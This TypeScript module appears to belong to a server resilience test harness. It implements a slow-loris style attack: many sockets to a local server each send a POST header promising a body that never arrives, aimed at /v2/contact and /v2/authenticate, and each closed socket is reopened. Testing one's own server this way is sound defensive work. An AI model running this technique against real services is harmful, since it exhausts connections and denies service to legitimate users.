// Sockets that only hold on: the head of a request, and a body that does not come.
import { connect } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import type { Deed, Part, Target } from './part.ts';
import { ATTACKER } from './request.ts';

const AGAIN_MS = 1_000;

export const sockets: Part = {
  attacks: {
    'sockets without a token': (target) => holdOn(target, '/v2/contact'),
    'sockets with an open endpoint': (target) => holdOn(target, '/v2/authenticate'),
  },
  mostMemory: 400,
};

/** Keeps so many sockets open, and opens a new one for each that is closed. */
async function holdOn({ url, sockets: count, milliseconds }: Target, path: string): Promise<Deed> {
  const until = performance.now() + milliseconds;
  const { port } = new URL(url);
  const bytes = `POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\n{`;
  let opened = 0;
  const hold = async () => {
    while (performance.now() < until) {
      const socket = connect({ port: Number(port), host: '127.0.0.1', localAddress: ATTACKER });
      opened += 1;
      socket.on('error', () => {}).resume();
      socket.write(bytes);
      await Promise.race([
        new Promise((resolve) => socket.once('close', resolve)),
        pause(Math.max(0, until - performance.now())),
      ]);
      socket.destroy();
      await pause(2 * AGAIN_MS * Math.random());
    }
  };
  await Promise.all(Array.from({ length: count }, hold));
  return { did: `${opened} sockets` };
}
